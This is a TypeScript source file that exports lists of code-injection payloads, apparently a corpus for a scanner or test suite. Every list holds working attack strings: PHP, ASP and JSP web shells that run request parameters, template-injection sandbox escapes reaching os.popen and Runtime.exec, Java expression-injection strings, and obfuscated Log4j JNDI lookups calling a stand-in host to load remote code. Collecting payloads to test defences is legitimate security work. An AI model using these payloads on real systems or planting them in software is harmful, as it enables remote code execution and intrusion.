/** Payloads of code injection, of our own writing; see attack-payloads.ts. */

export const php = String.raw`
<?php system($_GET['k']); ?>
<?=${'`'}id${'`'}?><?=system('id')?>
eval($_POST['k']);
assert($_REQUEST['k'])
@eval(base64_decode('cGhwaW5mbygpOw=='));
phpinfo();
${'$'}{@phpinfo()}
system('id');
passthru("ls -la");
';phpinfo();//
<?php phpinfo();
shell_exec('whoami')
call_user_func_array('assert',array($_POST[k]))
<% eval request("k") %>
<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("k")); %>
-d allow_url_include=1 -d auto_prepend_file=php://input
file_put_contents('k.php',$_POST['c'])
include($_GET['p']);
`;

export const template = String.raw`
{{7*7}}
${'$'}{7*7}
#{9*9}
<%= 8*8 %>
{{8*'8'}}
*{6*6}
{{config.items()}}
{{''.__class__.__mro__[1].__subclasses__()}}
{{request.application.__globals__.__builtins__}}
{{cycler.__init__.__globals__.os.popen('id').read()}}
{{self._TemplateReference__context}}
{{_self.env.registerUndefinedFilterCallback("exec")}}
{{['id']|filter('system')}}
<#assign k="freemarker.template.utility.Execute"?new()>${'$'}{k("id")}
#set($k=7*7)${'$'}k
{php}echo 1;{/php}
{{constructor.constructor('alert(1)')()}}
{{$on.constructor('alert(2)')()}}
${'$'}{T(java.lang.Runtime).getRuntime().exec('id')}
__${'$'}{T(java.lang.Runtime).getRuntime().exec("id")}__::.x
{{lipsum.__globals__['os'].popen('id').read()}}
<%= ${'`'}id${'`'} %>
`;

export const java = String.raw`
%{(#k=@java.lang.Runtime@getRuntime()).exec('id')}
%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}
(#_memberAccess['allowStaticMethodAccess']=true)
class.module.classLoader.resources.context.parent.pipeline.first.suffix
T(java.lang.Runtime).getRuntime().exec("id")
new java.lang.ProcessBuilder({'id'}).start()
java.lang.Runtime.getRuntime().exec('id')
new javax.script.ScriptEngineManager().getEngineByName("js").eval("1")
redirect:${'$'}{#req.getRealPath('/')}
require('child_process').execSync('id')
process.mainModule.require('child_process')
__import__('os').popen('id').read()
`;

export const log4j = String.raw`
${'$'}{jndi:ldap://e.example/k}
${'$'}{jndi:rmi://e.example:1099/k}
${'$'}{jndi:dns://e.example}
${'$'}{${'$'}{lower:j}ndi:ldap://e.example/k}
${'$'}{${'$'}{::-j}${'$'}{::-n}${'$'}{::-d}${'$'}{::-i}:ldap://e.example/k}
${'$'}{${'$'}{env:NaN:-j}ndi${'$'}{env:NaN:-:}ldap://e.example/k}
${'$'}{j${'$'}{k8s:k5:-ND}i:ldap://e.example/k}
${'$'}{jndi:${'$'}{lower:l}${'$'}{lower:d}ap://e.example/k}
${'$'}{${'$'}{upper:jndi}:ldap://e.example}
${'$'}{script:javascript:java.lang.Runtime.getRuntime()}
`;
